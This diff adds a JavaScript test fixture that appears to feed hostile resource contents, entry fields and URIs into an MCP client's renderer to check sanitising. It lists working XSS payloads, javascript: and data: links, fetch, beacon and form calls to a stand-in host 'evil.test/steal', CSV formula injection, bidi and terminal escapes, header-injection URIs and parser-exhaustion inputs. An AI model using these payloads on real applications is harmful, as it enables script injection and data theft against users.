@@ -1,0 +1,111 @@
+// Hostile contents. Each one would call attacked() or load something of http://evil.test if it were not made harmless.
+const RUN = 'attacked()'
+const EVIL = 'http://evil.test/steal'
+
+const html = inner => ({ mimeType: 'text/html', text: inner })
+const md = text => ({ mimeType: 'text/markdown', text })
+const svg = inner => ({ mimeType: 'image/svg+xml', text: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inner}</svg>` })
+const app = inner => ({ mimeType: 'text/html;profile=mcp-app', text: inner, app: true })
+
+/** Contents by the name of the attack. */
+export const contents = {
+  // Markdown
+  'markdown: script': md(`<script>${RUN}</script>`),
+  'markdown: image with a handler': md(`<img src=x onerror="${RUN}">`),
+  'markdown: script link': md(`[go](javascript:${RUN})`),
+  'markdown: script link with a line end': md(`[go](<java\nscript:${RUN}>)`),
+  'markdown: script link with entities': md(`[go](&#106;avascript&colon;${RUN})`),
+  'markdown: link of data': md('[go](data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+)'),
+  'markdown: vbscript link': md(`<a href="vbscript:${RUN}">go</a>`),
+  'markdown: picture that reports': md(`![x](${EVIL}.png)`),
+  'markdown: picture of data': md('![x](data:image/svg+xml,<svg/onload=attacked()>)'),
+  'markdown: reference link': md(`[go][a]\n\n[a]: javascript:${RUN} "onmouseover=${RUN}"`),
+  'markdown: title that ends the attribute': md(`[go](http://a.test/ "x\\" onmouseover=\\"${RUN}")`),
+  'markdown: code block with a language that ends the attribute': md('```"><img src=x onerror=attacked()>\ncode\n```'),
+  'markdown: autolink': md(`<javascript:${RUN}>`),
+  'markdown: frame': md(`<iframe src="javascript:${RUN}"></iframe><iframe srcdoc="<script>parent.attacked()</script>"></iframe>`),
+  'markdown: form': md(`<form action="${EVIL}"><input name=token autofocus onfocus="${RUN}"><button>Connect</button></form>`),
+  'markdown: style': md(`<style>@import "${EVIL}.css"; * { background: url(${EVIL}) }</style><p style="position:fixed;inset:0;background:url(${EVIL})">over</p>`),
+  'markdown: base': md(`<base href="${EVIL}">[go](x)`),
+  'markdown: refresh': md(`<meta http-equiv="refresh" content="0;url=${EVIL}">`),
+  'markdown: link that loads': md(`<link rel="stylesheet" href="${EVIL}"><link rel="dns-prefetch" href="//evil.test"><link rel=prerender href="${EVIL}">`),
+  'markdown: object': md(`<object data="${EVIL}"></object><embed src="${EVIL}"><applet code=x></applet>`),
+  'markdown: media': md(`<video src="${EVIL}" poster="${EVIL}" onerror="${RUN}"></video><audio src="${EVIL}" onerror="${RUN}"></audio>`),
+  'markdown: source set': md(`<img srcset="${EVIL} 1x" src="${EVIL}"><picture><source srcset="${EVIL}"><img src=x></picture>`),
+  'markdown: MathML and SVG confusion': md(`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`),
+  'markdown: SVG': md(`<svg><script>${RUN}</script><animate onbegin=${RUN} attributeName=x dur=1s></svg>`),
+  'markdown: template': md(`<template><img src=x onerror=${RUN}></template><noscript><p title="</noscript><img src=x onerror=${RUN}>">`),
+  'markdown: named elements': md('<form id=document><img name=getElementById></form><a id=explorer></a><a id=trustedTypes name=createPolicy></a>'),
+  'markdown: ping': md(`<a href="https://example.com" ping="${EVIL}" target="_self">go</a>`),
+  'markdown: details with a handler': md(`<details open ontoggle="${RUN}"><summary>x</summary></details>`),
+  'markdown: popover': md(`<button popovertarget=x>b</button><div id=x popover onbeforetoggle="${RUN}">p</div>`),
+  'markdown: nested very deep': md(`${'>'.repeat(20_000)}x\n\n${'- '.repeat(20_000)}x\n${'['.repeat(50_000)}`),
+  'markdown: slow to parse': md(`${'*a_ **b'.repeat(30_000)}\n${'`'.repeat(30_000)}\n${'<'.repeat(30_000)}`),
+  'markdown: broken surrogates and a zero byte': md('a\ud800b\u0000c\udc00 <img src=x\u0000 onerror=attacked()>'),
+  'markdown: front matter': md(`---\ntitle: <img src=x onerror=${RUN}>\n---\n<img/src=x/onerror=${RUN}>`),
+  // HTML
+  'html: script': html(`<script>${RUN}</script><body onload=${RUN}>`),
+  'html: window open': html(`<a href="javascript:window.open('${EVIL}')">go</a><a href="${EVIL}" target=_top>top</a>`),
+  'html: old frames': html(`<frameset onload=${RUN}><frame src="javascript:${RUN}"></frameset>`),
+  'html: shadow root': html(`<div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div>`),
+  'html: import of a module': html(`<script type=module>import '${EVIL}'</script><link rel=modulepreload href="${EVIL}">`),
+  'html: upper case and comments': html(`<!--><IMG SRC=x ONERROR=${RUN}>--><ScRiPt>${RUN}</sCrIpT>`),
+  'html: xml': { mimeType: 'application/xhtml+xml', text: `<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>` },
+  // SVG and pictures
+  'svg: script': svg(`<script>${RUN}</script>`),
+  'svg: handler': svg(`<g onload="${RUN}"/><image href="${EVIL}" onerror="${RUN}"/>`),
+  'svg: foreign object': svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${EVIL}"/><script>${RUN}</script></body></foreignObject>`),
+  'svg: use of another document': svg(`<use xlink:href="${EVIL}#x"/><style>@import "${EVIL}"</style>`),
+  'svg: entities': { mimeType: 'image/svg+xml', text: `<!DOCTYPE svg [<!ENTITY x SYSTEM "${EVIL}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>` },
+  'picture that is HTML': { mimeType: 'image/png', blob: Buffer.from(`<script>${RUN}</script>`).toString('base64') },
+  'picture that claims a huge size': { mimeType: 'image/bmp', blob: Buffer.from('424d3a0000000000000036000000280000007fffffff7fffffff0100180000000000', 'hex').toString('base64') },
+  'type with a handler': { mimeType: 'image/svg+xml"><script>attacked()</script>', text: '<svg onload=attacked()>' },
+  // Other readers
+  'json: markup and odd names': { mimeType: 'application/json', text: `{"__proto__": {"a": 1}, "<img src=x onerror=${RUN}>": "<script>${RUN}</script>", "constructor": null}` },
+  'json: very deep': { mimeType: 'application/json', text: '['.repeat(200_000) + ']'.repeat(200_000) },
+  'json: many members': { mimeType: 'application/json', text: `{${Array.from({ length: 100_000 }, (_, index) => `"k${index}":${index}`).join()}}` },
+  'csv: formulas and markup': { mimeType: 'text/csv', text: `=HYPERLINK("${EVIL}"),<img src=x onerror=${RUN}>\n"open quote,${'x,'.repeat(5_000)}` },
+  'csv: many columns': { mimeType: 'text/csv', text: `${','.repeat(200_000)}\n`.repeat(3) },
+  'code: markup': { mimeType: 'text/x-java', text: `String s = "<img src=x onerror=${RUN}>"; // </pre><script>${RUN}</script>` },
+  'code: slow to colour': { mimeType: 'text/javascript', text: `${'/'.repeat(50_000)}${'('.repeat(50_000)}${'`${'.repeat(20_000)}` },
+  'text: terminal codes': { mimeType: 'text/plain', text: '\u001b]0;owned\u0007\u001b[31mred\u001b[0m\u009b2J' },
+  'text: direction': { mimeType: 'text/plain', text: 'if (admin\u202e \u2066// check\u2069 \u2066) {' },
+  'text: one line of 5 MB': { mimeType: 'text/plain', text: 'x'.repeat(5_000_000) },
+  'text: stacked accents': { mimeType: 'text/plain', text: `Z${'\u0301'.repeat(100_000)}` },
+  'blob: not base64': { mimeType: 'application/pdf', blob: `"><script>${RUN}</script>` },
+  'pdf with a script': { mimeType: 'application/pdf', blob: Buffer.from(`%PDF-1.7 /OpenAction << /JS (${RUN}) >>`).toString('base64') },
+  'content: wrong kinds of values': { contents: [null, 7, [], { uri: {}, mimeType: [], text: { toString: RUN } }, { uri: 5, blob: 9 }, {}] },
+  'content: many parts': { contents: Array.from({ length: 5_000 }, (_, index) => ({ uri: `x:${index}`, text: `<b>${index}` })) },
+  // Pages of apps: they may run, but only in their frame
+  'app: parent': app(`<script>try { parent.document.title = 'owned'; parent.attacked() } catch {} try { top.location = '${EVIL}' } catch {}</script>`),
+  'app: network': app(`<script>fetch('${EVIL}').catch(() => {}); new Image().src = '${EVIL}'; navigator.sendBeacon?.('${EVIL}'); try { new WebSocket('ws://evil.test') } catch {}
+    fetch('/mcp', { method: 'POST', body: '{}' }).catch(() => {})</script><link rel=stylesheet href="${EVIL}"><script src="${EVIL}"></script>`),
+  'app: navigation': app(`<meta http-equiv=refresh content="0;url=${EVIL}"><script>location = '${EVIL}'</script>`),
+  'app: windows and forms': app(`<form id=f action="${EVIL}"></form><script>open('${EVIL}'); f.submit(); alert(1); print()</script>`),
+  'app: frames of its own': app(`<iframe src="${EVIL}"></iframe><iframe src="/"></iframe><iframe srcdoc="<script>top.attacked()</script>"></iframe>`),
+  'app: storage and workers': app("<script>try { localStorage.x = 1; parent.attacked() } catch {} try { new Worker(URL.createObjectURL(new Blob(['x']))) } catch {}</script>"),
+  'app: messages to the page': app(`<script>for (let i = 0; i < 1000; i++) parent.postMessage({ page: '<script>attacked()<\\/script>', __proto__: 1 }, '*'); parent.postMessage('ready', '*')</script>`),
+}
+
+/** Names, descriptions and other fields of entries. */
+export const entries = {
+  'name: markup': { name: `<img src=x onerror=${RUN}>`, title: `<script>${RUN}</script>` },
+  'name: direction and control': { name: 'gpj.\u202eexe\u0000\u001b[2J\u0007' },
+  'name: one million characters': { name: 'n'.repeat(1_000_000), description: 'd'.repeat(1_000_000) },
+  'description: markup': { name: 'd', description: `<iframe src="javascript:${RUN}"></iframe>[go](javascript:${RUN})` },
+  'type: markup': { name: 't', mimeType: `text/html"><script>${RUN}</script>` },
+  'icon: another server': { name: 'i', icons: [{ src: `${EVIL}.svg` }, { src: `javascript:${RUN}` }] },
+  'fields: wrong kinds of values': { name: { a: 1 }, title: 7, description: [RUN], mimeType: {}, size: 'huge', annotations: 'x', _meta: [] },
+  'size: not a number': { name: 's', size: -1e308, annotations: { lastModified: `<b onclick=${RUN}>` } },
+}
+
+/** URIs of entries whose content is a short text. */
+export const uris = {
+  'uri: script': `javascript:${RUN}`,
+  'uri: data': `data:text/html,<script>${RUN}</script>`,
+  'uri: markup': `x://"><img src=x onerror=${RUN}>`,
+  'uri: percent signs and line ends': 'x://a%0d%0aMcp-Method:%20tools/call/\r\n%ff%',
+  'uri: 40,000 folders': `deep:///${'a/'.repeat(40_000)}b`,
+  'uri: not ASCII': 'x://ü/\u202e/💡',
+  'uri: names of objects': 'x://__proto__/constructor/toString',
+}
